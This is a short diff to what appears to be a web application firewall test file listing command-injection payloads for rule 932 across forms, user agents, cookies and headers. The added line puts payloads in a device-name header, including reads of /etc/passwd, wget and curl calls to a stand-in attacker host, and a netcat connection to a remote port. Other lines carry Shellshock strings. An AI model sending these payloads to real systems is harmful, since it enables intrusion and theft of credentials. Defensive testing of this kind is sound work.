@@ -15,6 +15,7 @@ export const code: Sent[] = [
   ...each("932", inForm, ["; uname -a", "|bash -i"]),
   ...each("932", inField, ["; cat /etc/shadow"]),
   ...each("932", inAgent, ["() { :;}; /bin/bash -c 'id'", "() { ignored; }; echo Content-Type: text/html; echo; /usr/bin/id"]),
+  ...each("932", inHeader("X-Device-Name"), ["; cat /etc/passwd", "a && wget http://evil.example/x", "$(curl evil.example)", "|nc 203.0.113.9 4444"]),
   ...each("932", inCookie, ["$(id)"]),
   ...each("932", inName, ["$(whoami)"]),
   ...each("932", inFileName, [".htaccess"]),
